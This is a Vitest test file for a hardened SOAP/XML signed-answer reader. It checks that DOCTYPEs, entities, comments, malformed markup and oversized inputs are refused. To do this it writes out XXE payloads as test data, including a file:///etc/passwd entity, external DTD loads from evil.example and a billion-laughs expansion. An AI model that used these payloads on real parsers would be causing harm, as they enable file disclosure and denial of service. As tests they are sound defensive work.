import { expect, test, vi } from 'vitest';
import { readAnswer } from '../../../../worker/viisp/soap/signed-xml.js';
import { fastest } from '../../../support/worker/fastest.js';
import { VARDENIS, VARDENIS_ANSWER } from '../../../support/worker/viisp/contents.js';
import { platformWith } from '../../../support/worker/viisp/platform.js';
import { key, signedMessage } from '../../../support/worker/viisp/signer.js';

const platform = platformWith({ keys: [key.pinned] });
const message = await signedMessage({ content: VARDENIS });

/** The message with something put before the first place where a text stands. */
function withBefore(place: string, what: string): string {
  const changed = message.replace(place, what + place);
  expect(changed).not.toBe(message);
  return changed;
}

test('T-xxe, BI-59: documents with a DOCTYPE are refused at once, and nothing is fetched for them', async () => {
  const lol = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  const documents = [
    '<!DOCTYPE x>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>',
    `<!DOCTYPE x [<!ENTITY l0 "lol">${lol}]>`,
  ].map((doctype) => doctype + message.replace('VARDENIS', 'VARDENIS&e;&l9;'));
  const fetched = vi.spyOn(globalThis, 'fetch');
  for (const document of documents) {
    expect(readAnswer(document, platform)).toEqual({ refused: 'markup' });
    expect(await refusing(document)).toBeLessThan(50);
  }
  expect(fetched).not.toHaveBeenCalled();
});

test('T-xxe: a DOCTYPE is refused wherever it stands and however it is written', () => {
  for (const doctype of [
    '<!DOCTYPE x>',
    '<!doctype x>',
    '<!DOCTYPE\tx>',
    '<!ENTITY e "x">',
    '<!ATTLIST x id ID #IMPLIED>',
  ])
    for (const place of ['<soap:Envelope', '<soap:Body', 'VARDENIS', '<DigestValue'])
      expect(readAnswer(withBefore(place, doctype), platform), doctype).toEqual({ refused: 'markup' });
});

test('BI-62: a comment, an instruction or a CDATA section is refused, in values and in the signature alike', () => {
  const [digest = ''] = message.match(/(?<=<DigestValue>)..../) ?? [];
  const [value = ''] = message.match(/(?<=<SignatureValue>)..../) ?? [];
  for (const intruder of ['<!---->', '<!-- x -->', '<?x y?>', '<![CDATA[]]>', '<![CDATA[x]]>'])
    for (const place of ['09240064', 'ARDENIS', digest, value, '<Reference', '<KeyInfo', '<soap:Header', '<SOAP-ENV'])
      if (message.includes(place))
        expect(readAnswer(withBefore(place, intruder), platform), intruder + place).toEqual({ refused: 'markup' });
});

test('T-xxe: no entity is known but the five of XML', async () => {
  for (const entity of ['&nbsp;', '&copy;', '&e;', '&AMP;', '&amp', '& ', '&#;', '&#x;', '&#xZ;', '&#1e3;', '&;'])
    expect(readAnswer(withBefore('ARDENIS', entity), platform), entity).toEqual({ refused: 'markup' });
  for (const character of ['&#0;', '&#8;', '&#xFFFF;', '&#xD800;', '&#x110000;', '&#99999999;', '\u0000', '\u0008'])
    expect(readAnswer(withBefore('ARDENIS', character), platform), character).toEqual({ refused: 'markup' });
  const content = VARDENIS.replace('VARDENIS', '&amp;&lt;&gt;"\'');
  const spelt = (await signedMessage({ content })).replace('"\'</auth', '&quot;&apos;</auth');
  expect(readAnswer(spelt, platform)).toEqual({
    value: { ...VARDENIS_ANSWER, information: { firstName: '&<>"\'' } },
  });
});

test('BI-65: what is no XML is refused, and so is what a lenient parser would mend', () => {
  const html = '<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><p>Techniniai darbai</body></html>';
  const broken = [
    ...['', ' ', 'x', '{}', '<', '<>', '</a>', '<a', '<a/><b/>', html, '\uFEFF', '\u00A0<a/>'],
    message.slice(0, -1),
    message.slice(1),
    `${message}x`,
    `x${message}`,
    `${message}<x/>`,
    message + message,
    ` <?xml version="1.0"?>${message}`,
    message.replace('</soap:Body></soap:Envelope>', '</soap:Envelope></soap:Body>'),
    message.replace('id="uniqueId"', 'id=uniqueId'),
    message.replace('id="uniqueId"', 'id'),
    message.replace('id="uniqueId"', 'id="uniqueId" id="uniqueId"'),
    message.replace('id="uniqueId"', 'id="uniqueId"x="y"'),
    message.replace('id="uniqueId"', 'id="uniqueId" x="<"'),
    message.replace('VARDENIS', 'VARDENIS]]>'),
    message.replace('<soap:Body>', '<soap:Body/ >'),
    message.replace('<soap:Body>', '< soap:Body>'),
  ];
  for (const document of broken) expect(readAnswer(document, platform), document).toEqual({ refused: 'markup' });
});

test('BI-65: a declaration of UTF-8 is accepted, one of another encoding or another version is not', () => {
  for (const declared of [
    'version="1.0"',
    "version='1.0' encoding='utf-8'",
    'version="1.0" encoding="UTF-8" standalone="yes"',
  ])
    expect(readAnswer(`<?xml ${declared}?>\n${message}\n`, platform)).toEqual({ value: VARDENIS_ANSWER });
  for (const declared of [
    'version="1.0" encoding="ISO-8859-13"',
    'version="1.0" encoding="UTF-16"',
    'version="1.1"',
    '',
  ])
    expect(readAnswer(`<?xml ${declared}?>${message}`, platform)).toEqual({ refused: 'markup' });
});

test('T-redos: what is deep, wide, long or endless is refused within 50 ms', async () => {
  const many = 200_000;
  const inBody = (what: string) => withBefore('</soap:Body>', what);
  for (const document of [
    inBody('<a>'.repeat(many / 10) + '</a>'.repeat(many / 10)),
    inBody('<a/>'.repeat(many / 10)),
    '<a>'.repeat(many / 4),
    `<a ${'b="c" '.repeat(many / 8)}`,
    `<a${' '.repeat(many)}`,
    `<a${' b'.repeat(many / 2)}`,
    `<a b="${'c'.repeat(many)}`,
    `<${'a'.repeat(many)}`,
    `<a>${'&'.repeat(many)}</a>`,
    `<a>${'&#1;'.repeat(many / 8)}</a>`,
    withBefore('VARDENIS', ']'.repeat(many)),
    withBefore('VARDENIS', ' '.repeat(256 * 1024)),
    withBefore(' id="uniqueId"', Array.from({ length: 8000 }, (_, at) => ` xmlns:a${at}="urn:${at}"`).join('')),
    // As much as the limits allow: every element digs deeper, declares what it can and uses it.
    inBody(deepest(6, 14) + '<a/>'.repeat(180) + '</a>'.repeat(6)),
    withBefore('<authentication:customData', deepest(6, 14) + '<a/>'.repeat(180) + '</a>'.repeat(6)),
  ]) {
    expect(await refusing(document), document.slice(0, 20)).toBeLessThan(50);
  }
});

test('BI-65: what is longer, wider or deeper than any answer is refused before a parser sees it', () => {
  const namespaces = Array.from({ length: 101 }, (_, at) => `<a xmlns:a${at}="u"/>`).join('');
  for (const much of [
    '<a>'.repeat(17) + '</a>'.repeat(17),
    '<a/>'.repeat(251),
    `<a b="${'c'.repeat(2048)}"/>`,
    `<a ${Array.from({ length: 60 }, (_, at) => `b${at}=""`).join(' ')}/>`.repeat(9),
    namespaces,
  ])
    expect(readAnswer(withBefore('</soap:Body>', much), platform)).toEqual({ refused: 'too_complex' });
  expect(readAnswer(withBefore('VARDENIS', ' '.repeat(256 * 1024)), platform)).toEqual({ refused: 'too_large' });
});

/** The beginnings of some elements in each other, each with names of its own in namespaces of its own. */
function deepest(levels: number, names: number): string {
  return Array.from({ length: levels }, (_, level) => {
    const uses = Array.from({ length: names }, (_, at) => ` xmlns:p${level}${at}="u" p${level}${at}:a=""`);
    return `<a${uses.join('')}>`;
  }).join('');
}

/** The milliseconds that refusing takes. */
function refusing(document: string): Promise<number> {
  return fastest(50, () => expect(readAnswer(document, platform)).toEqual({ refused: expect.any(String) }));
}
